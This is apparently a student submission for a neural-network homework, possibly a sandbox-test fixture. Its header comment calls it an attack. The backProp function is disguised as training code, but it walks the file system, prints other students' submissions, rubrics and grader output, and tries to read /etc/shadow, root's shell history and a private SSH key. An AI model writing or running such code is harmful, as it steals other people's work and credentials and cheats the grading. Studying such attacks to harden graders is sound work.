# Attack: read other students' submissions, the rubrics, hidden data and the grader's output, and
# print what was found (so it would show in this student's report).
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import glob
import os

ROOTS = ("/tmp", "/work", "/home", "/root", "/srv", "/builds", "/github", "/__w", "/var/tmp")


def _walk(root, depth=5):
    found = []
    try:
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.count(os.sep) - root.count(os.sep) >= depth:
                dirnames[:] = []
            for name in filenames:
                if name.endswith((".py", ".ipynb", ".toml", ".json", ".csv", ".html")):
                    found.append(os.path.join(dirpath, name))
            if len(found) > 2000:
                break
    except OSError:
        pass
    return found


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    stolen = 0
    for root in ROOTS:
        for path in _walk(root):
            try:
                with open(path, encoding="utf-8", errors="replace") as handle:
                    text = handle.read(4000)
            except OSError:
                continue
            stolen += 1
            print("READ", path)
            print(text)
    for path in ("/etc/shadow", "/root/.bash_history", os.path.expanduser("~/.ssh/id_rsa")):
        try:
            print(path, open(path).read(200))
        except OSError as exc:
            print(path, "->", type(exc).__name__)
    print("other scratch folders:", glob.glob("/tmp/taller-grader-*/*"))
    print("files read:", stolen)
    return stolen, stolen, stolen, stolen
